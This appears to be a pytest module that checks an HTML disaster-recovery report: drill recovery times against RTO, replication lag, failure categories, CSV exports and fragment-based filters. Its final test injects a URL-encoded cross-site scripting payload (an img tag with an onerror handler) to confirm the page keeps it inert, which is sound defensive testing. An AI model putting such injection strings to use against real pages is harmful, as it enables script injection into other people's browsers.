def _drills_in_period(drills, since):
    return [drill for drill in drills.values() if _time(drill["started_at"]) >= _time(since)]


@pytest.fixture(scope="module")
def default_report(history_runs, tmp_path_factory):
    """The report of the last 24 hours, written once for the tests that open it with filters in the page."""
    output = tmp_path_factory.mktemp("default-report")
    _report(history_runs, output)
    return output


def _rows(dom, name):
    """(attributes, text) of the filterable rows of one section (data-row)."""
    return [(attrs, " ".join(words.split())) for attrs, words in dom.texts_with_attribute("data-row")
            if attrs["data-row"] == name]


def _number(text):
    return None if text == "" else float(text)


def test_the_dr_posture_sections_match_the_history(history_runs, default_report, tmp_path):
    _lab, _table_name, runs, drills = history_runs
    output = default_report
    generated = json.loads((output / "deployments.json").read_text(encoding="utf-8"))
    since, until = generated["filters"]["since"], generated["filters"]["until"]
    reported = _in_period(runs, since)
    dom_text, console = _open(output / "report.html", tmp_path, "--dump-dom")
    assert console == [], "\n".join(console)
    dom = _Dom(dom_text)
    assert not [attrs for _tag, attrs in dom.elements if "hidden" in attrs]  # no filter in the address: all shown

    # results by wave: each wave's counts per status summed over every account and run, then per account
    by_wave, by_wave_account = {}, {}
    for item in reported:
        for wave in item["waves"]:
            by_wave.setdefault(wave["wave"], []).append(wave["by_status"])
            by_wave_account.setdefault((wave["wave"], item["source_account_id"]), []).append(wave["by_status"])
    totals = {int(attrs["data-wave-total"]): attrs for attrs in dom.with_class("wave-total")}
    assert sorted(totals) == sorted(by_wave) == [1, 2]
    for wave, counts in by_wave.items():
        figures = outcomes.tally(outcomes.add(*counts))
        assert _number(totals[wave]["data-success-rate"]) == pytest.approx(figures["success_rate"], abs=1e-4)
    rows = {(int(attrs["data-wave"]), attrs["data-account"]): attrs for attrs, _words in _rows(dom, "waves")}
    assert set(rows) == set(by_wave_account)
    for key, counts in by_wave_account.items():
        figures = outcomes.tally(outcomes.add(*counts))
        assert (int(rows[key]["data-attempted"]), int(rows[key]["data-protected"]), int(rows[key]["data-failed"])) == \
            (figures["attempted"], figures["protected"], figures["failed"]), key
    assert (int(rows[(2, VAULT)]["data-protected"]), int(rows[(2, VAULT)]["data-failed"])) == (1, 1)

    # failures by error category, per account
    expected_categories = {}
    for item in reported:
        for instance in item["unprotected_instances"]:
            if outcomes.is_failure(instance["status"]):
                key = (instance.get("error_category") or "unknown", item["source_account_id"])
                expected_categories[key] = expected_categories.get(key, 0) + 1
    shown_categories = {(attrs["data-category"], attrs["data-account"]): int(attrs["data-failed"])
                        for attrs, _words in _rows(dom, "categories")}
    assert shown_categories == expected_categories
    assert shown_categories[("network", LEDGER)] == 1 and shown_categories[("ssm_timeout", VAULT)] == 1
    category_totals = [(attrs["data-category-total"], int(attrs["data-count-total"]))
                       for attrs in dom.with_class("category-total")]
    counts = [count for _category, count in category_totals]
    assert counts == sorted(counts, reverse=True)
    for category, count in category_totals:
        assert count == sum(number for (name, _account), number in expected_categories.items() if name == category)

    # extension: the run's record (held by both its items) counted once, each extension a row
    [verified_ledger, verified_vault] = runs["verified"]
    extension = verified_ledger["extension"]
    assert verified_vault["extension"] == extension
    shown_extensions = [(int(attrs["data-wave"]), attrs["data-target-account-id"], int(attrs["data-requested"]),
                         int(attrs["data-extended"]), int(attrs["data-already-extended"]), int(attrs["data-failed"]),
                         int(attrs["data-left-out"]), attrs["data-account"], words)
                        for attrs, words in _rows(dom, "extensions")]
    assert [row[:7] for row in shown_extensions] == [
        (run["wave"], run["target_account_id"], run["requested"], run["extended"], run["already_extended"],
         run["failed"], run["left_out"]) for run in extension["runs"]]
    assert {row[7] for row in shown_extensions} == {f"{LEDGER} {VAULT}"}
    assert extension["runs"][0]["message"] in shown_extensions[0][8]

    # replication health: each account's latest verified run, its servers not healthy, the worst lags
    latest = _latest_verified(reported)
    assert latest[LEDGER] is verified_ledger and set(latest) == {LEDGER, VAULT}
    shown_replication = {attrs["data-account"]: attrs for attrs, _words in _rows(dom, "replication")}
    assert set(shown_replication) == set(latest)
    for account_id, item in latest.items():
        attrs = shown_replication[account_id]
        counts = item["replication"]
        other = sum(counts.values()) - sum(counts.get(verdict, 0) for verdict in ("healthy", "syncing", "stalled"))
        assert [int(attrs[f"data-{name}"]) for name in ("healthy", "syncing", "stalled", "other")] == \
            [counts.get("healthy", 0), counts.get("syncing", 0), counts.get("stalled", 0), other], account_id
        lags = [entry["lag_seconds"] for entry in item["unhealthy_replication"] if entry["lag_seconds"] is not None]
        assert _number(attrs["data-worst-lag-seconds"]) == (max(lags) if lags else None)
    servers = {(attrs["data-account"], attrs["data-instance-id"]): (attrs, words)
               for attrs, words in _rows(dom, "replication-servers")}
    unhealthy = {(account_id, entry["instance_id"]): entry for account_id, item in latest.items()
                 for entry in item["unhealthy_replication"]}
    assert set(servers) == set(unhealthy) and len(unhealthy) == 3
    for key, entry in unhealthy.items():
        attrs, words = servers[key]
        assert attrs["data-verdict"] == entry["verdict"] and attrs["data-category"] == (entry["error_category"] or "")
        assert entry["reason"] in words and _number(attrs["data-lag-seconds"]) == entry["lag_seconds"]
    # the older run's stalled server is not LEDGER's state now
    [before] = runs["ledger_before"][0]["unhealthy_replication"]
    assert before["error"] == "UNSTABLE_NETWORK" and not any(before["error"] in words for _a, words in servers.values())
    worst = [attrs["data-instance-id"] for attrs, _words in _rows(dom, "lags")]
    assert worst == [entry["instance_id"] for entry in sorted(
        (entry for entry in unhealthy.values() if entry["lag_seconds"] is not None),
        key=lambda entry: -entry["lag_seconds"])]
    assert len(worst) == 2

    # the last drill of each wave of the period, its recovery time against its RTO
    period_drills = _drills_in_period(drills, since)
    assert len(period_drills) == 2
    expected_drills = {}
    for drill in sorted(period_drills, key=lambda drill: drill["started_at"]):
        for wave in drill["waves"]:
            expected_drills[wave["wave"]] = (drill, wave)
    shown_drills = {int(attrs["data-wave"]): (attrs, words) for attrs, words in _rows(dom, "drills")}
    assert set(shown_drills) == set(expected_drills) == {1, 2}
    for number, (drill, wave) in expected_drills.items():
        attrs, words = shown_drills[number]
        assert attrs["data-drill-id"] == drill["run_id"] and attrs["data-status"] == drill["status"]
        assert _number(attrs["data-recovery-seconds"]) == wave["recovery_seconds"]
        assert int(attrs["data-rto-seconds"]) == wave["rto_seconds"]
        assert attrs["data-verdict"] == ("over" if wave["over_rto"] else "met")
        assert int(attrs["data-launched"]) == wave["launched"]
        assert int(attrs["data-unlaunched"]) == wave["failed"] + wave["timed_out"]
        assert ("over the RTO" if wave["over_rto"] else "within the RTO") in words
    assert shown_drills[1][0]["data-drill-id"] == drills["wave1"]["run_id"]  # the later drill of wave 1

    # the trend: one bar per hour of the period, each with the finished runs that started in it
    first = _time(since).replace(minute=0, second=0, microsecond=0)
    hours = []
    while first <= _time(until):
        hours.append(first)
        first += timedelta(hours=1)
    bars = dom.with_class("trend-bucket")
    assert [_time(attrs["data-bucket-start"]) for attrs in bars] == hours
    for attrs in bars:
        start = _time(attrs["data-bucket-start"])
        inside = [item for item in reported if start <= _time(item["started_at"]) < start + timedelta(hours=1)
                  and _shown_status(runs, item) not in ("in_progress", "interrupted")]
        figures = outcomes.tally(outcomes.add(*(item["by_status"] for item in inside)))
        assert int(attrs["data-records"]) == len(inside) and int(attrs["data-attempted"]) == figures["attempted"]
        assert _number(attrs["data-success-rate"]) == (None if figures["success_rate"] is None
                                                       else pytest.approx(figures["success_rate"], abs=1e-4))
    assert sum(int(attrs["data-records"]) for attrs in bars) == \
        sum(_shown_status(runs, item) not in ("in_progress", "interrupted") for item in reported)

    # replication.csv: the servers not healthy of each account's latest verified run; drills.csv: drill by wave
    replication_rows = _read_csv_rows(output / "replication.csv", REPLICATION_COLUMNS)
    assert sorted((row["account_id"], row["instance_id"], row["verdict"], row["lag_seconds"], row["error_category"],
                   row["deployment_id"], row["reason"]) for row in replication_rows) == sorted(
        (account_id, entry["instance_id"], entry["verdict"],
         "" if entry["lag_seconds"] is None else f"{entry['lag_seconds']:g}", entry["error_category"] or "",
         latest[account_id]["deployment_id"], _csv_text(entry["reason"])) for (account_id, _i), entry in unhealthy.items())
    drill_rows = _read_csv_rows(output / "drills.csv", DRILL_COLUMNS)
    assert sorted((row["drill_id"], int(row["wave"]), row["status"], row["recovery_seconds"], row["over_rto"])
                  for row in drill_rows) == sorted(
        (drill["run_id"], wave["wave"], drill["status"], f"{wave['recovery_seconds']:g}",
         "true" if wave["over_rto"] else "false") for drill in period_drills for wave in drill["waves"])

    # every row count shown is the number of rows of its section
    for attrs, words in dom.texts_with_attribute("data-count"):
        assert int(words) == len(_rows(dom, attrs["data-count"])), attrs


def _read_csv_rows(path, columns):
    raw = path.read_bytes()
    assert raw.startswith((",".join(columns) + "\r\n").encode())
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        assert reader.fieldnames == columns
        return list(reader)


def _run_waves(item):
    return {wave["wave"] for wave in item["waves"]} | {entry["wave"] for entry in item["unprotected_instances"]
                                                       if entry["wave"] is not None}


@pytest.mark.parametrize("chosen", [
    {"account": LEDGER, "wave": "2"},
    {"status": "stopped"},
    {"category": "network"},
    {"pattern": "multi-account", "wave": "1"},
])
def test_filters_in_the_page_from_the_url_fragment_hide_exactly_the_rows_that_do_not_match(
        history_runs, default_report, tmp_path, chosen):
    _lab, _table_name, runs, drills = history_runs
    output = default_report
    since = json.loads((output / "deployments.json").read_text(encoding="utf-8"))["filters"]["since"]
    reported = _in_period(runs, since)
    fragment = "&".join(f"{key}={value}" for key, value in chosen.items())
    dom_text, console = _open(output / "report.html", tmp_path, "--dump-dom", fragment=fragment)
    assert console == [], "\n".join(console)
    dom = _Dom(dom_text)

    def visible(section):
        return [attrs for attrs, _words in _rows(dom, section) if "hidden" not in attrs]

    # the runs (timeline) shown are those of the account, status, pattern, waves and categories chosen
    def run_matches(item):
        return (chosen.get("account", item["source_account_id"]) == item["source_account_id"]
                and chosen.get("status", _shown_status(runs, item)) == _shown_status(runs, item)
                and chosen.get("pattern", item["deployment_pattern"]) == item["deployment_pattern"]
                and ("wave" not in chosen or int(chosen["wave"]) in _run_waves(item))
                and ("category" not in chosen or chosen["category"] in
                     {entry["error_category"] for entry in item["unprotected_instances"]}))
    assert sorted((attrs["data-deployment-id"], attrs["data-account"]) for attrs in visible("timeline")) == \
        sorted((item["deployment_id"], item["source_account_id"]) for item in reported if run_matches(item))

    # the unprotected instances shown are those of the runs, waves and categories chosen
    def instance_matches(item, instance):
        return (chosen.get("account", item["source_account_id"]) == item["source_account_id"]
                and chosen.get("status", _shown_status(runs, item)) == _shown_status(runs, item)
                and chosen.get("pattern", item["deployment_pattern"]) == item["deployment_pattern"]
                and chosen.get("wave", str(instance["wave"])) == str(instance["wave"])
                and chosen.get("category", instance.get("error_category")) == instance.get("error_category"))
    expected = sorted((item["deployment_id"], instance["instance_id"]) for item in reported
                      for instance in item["unprotected_instances"] if instance_matches(item, instance))
    assert sorted((attrs["data-deployment-id"], attrs["data-instance-id"]) for attrs in visible("unprotected")) == \
        expected
    assert expected, "each case shows some unprotected instances"
    failed = sorted(instance_id for _deployment, instance_id in expected
                    if any(instance["instance_id"] == instance_id and outcomes.is_failure(instance["status"])
                           for item in reported for instance in item["unprotected_instances"]))
    assert sorted(attrs["data-instance-id"] for attrs in visible("failures")) == failed

    # the drills shown are those of the wave and status chosen (a drill has no account, pattern or category)
    period_drills = _drills_in_period(drills, since)
    last = {}
    for drill in sorted(period_drills, key=lambda drill: drill["started_at"]):
        for wave in drill["waves"]:
            last[wave["wave"]] = drill
    assert sorted(int(attrs["data-wave"]) for attrs in visible("drills")) == sorted(
        wave for wave, drill in last.items()
        if chosen.get("wave", str(wave)) == str(wave) and chosen.get("status", drill["status"]) == drill["status"])

    # every filterable row: hidden exactly when one of its filter attributes lacks the value chosen
    for attrs, _words in dom.texts_with_attribute("data-row"):
        matches = all(f"data-{key}" not in attrs or value in attrs[f"data-{key}"].split()
                      for key, value in chosen.items())
        assert ("hidden" not in attrs) == matches, attrs
    # a group none of whose rows is shown is hidden too; the counts are those of the rows shown
    for attrs, words in dom.texts_with_attribute("data-count"):
        assert int(words) == len(visible(attrs["data-count"])), attrs
    [(_attrs, state)] = [(attrs, words) for attrs, words in dom.texts_with_attribute("id")
                         if attrs["id"] == "filter-state"]
    for key, value in chosen.items():
        assert f"{key} {value}" in state


def test_a_hostile_fragment_stays_inert_and_shows_no_row_of_any_account(default_report, tmp_path):
    output = default_report
    fragment = "account=%3Cimg%20src%3Dx%20onerror%3D%22console.error('xss-fragment')%22%3E"
    dom_text, console = _open(output / "report.html", tmp_path, "--dump-dom", fragment=fragment)
    assert console == [], "\n".join(console)
    dom = _Dom(dom_text)
    assert not [tag for tag, _attrs in dom.elements if tag == "img"]
    rows = dom.texts_with_attribute("data-row")
    assert rows and all(("hidden" in attrs) == ("data-account" in attrs) for attrs, _words in rows)
    assert any("data-account" not in attrs for attrs, _words in rows)  # the drills, which belong to no account
    options = [words for attrs, words in dom.texts_with_attribute("value") if "not in this report" in words]
    assert options == ["<img src=x onerror=\"console.error('xss-fragment')\"> (not in this report)"]
